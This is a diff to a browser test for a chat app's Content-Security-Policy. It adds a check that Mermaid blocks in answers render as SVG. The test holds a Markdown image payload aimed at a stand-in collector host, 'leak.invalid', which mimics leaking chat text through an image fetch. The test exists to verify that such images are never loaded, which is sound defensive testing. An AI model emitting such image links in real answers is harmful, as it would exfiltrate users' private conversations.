@@ -8,8 +8,8 @@ import { chromiumArgs, chromiumPath } from './chromium';
 
 /**
  * The strict Content-Security-Policy must not break the UI: the app and the API docs render in real
- * Chromium with no CSP violation, the theme script (a file now) still runs, and a remote Markdown image
- * in an answer is shown as a link and never fetched.
+ * Chromium with no CSP violation, the theme script (a file now) still runs, a remote Markdown image
+ * in an answer is shown as a link and never fetched, and a Mermaid block in an answer is drawn as SVG.
  */
 const hasChromium = existsSync(chromiumPath);
 const hasBuild = existsSync(join(import.meta.dirname, '../apps/web/dist/index.html'));
@@ -89,13 +89,19 @@ describe.skipIf(!hasChromium || !hasBuild)('Content-Security-Policy in Chromium'
     await page.waitForURL('**/chat');
     const composer = page.getByLabel('Message', { exact: true });
     await page.getByLabel('Model').selectOption('echo');
-    await composer.fill('Look: ![secret chart](http://leak.invalid/collect?q=my%20secret%20chat)');
+    await composer.fill(
+      'Look: ![secret chart](http://leak.invalid/collect?q=my%20secret%20chat)\n\n```mermaid\ngraph TD\n  Ask --> Answer\n```',
+    );
     await composer.press('Control+Enter');
     const answer = page.getByRole('article', { name: 'Assistant' }).last();
     const link = answer.getByRole('link', { name: /secret chart/ });
     await link.waitFor({ timeout: 20_000 });
     expect(await link.getAttribute('href')).toBe('http://leak.invalid/collect?q=my%20secret%20chat');
     expect(await page.locator('img[src*="leak.invalid"]').count()).toBe(0);
+    // The mermaid block becomes a drawn diagram (Mermaid's lazy chunk, under the same policy).
+    const diagram = answer.getByRole('img', { name: 'Diagram' });
+    await diagram.locator('svg').waitFor({ timeout: 30_000 });
+    expect(await diagram.locator('svg').getByText('Answer').count()).toBeGreaterThan(0);
 
     expect(await violationsOf(page, observed)).toEqual([]);
     expect(observed.foreignRequests).toEqual([]);
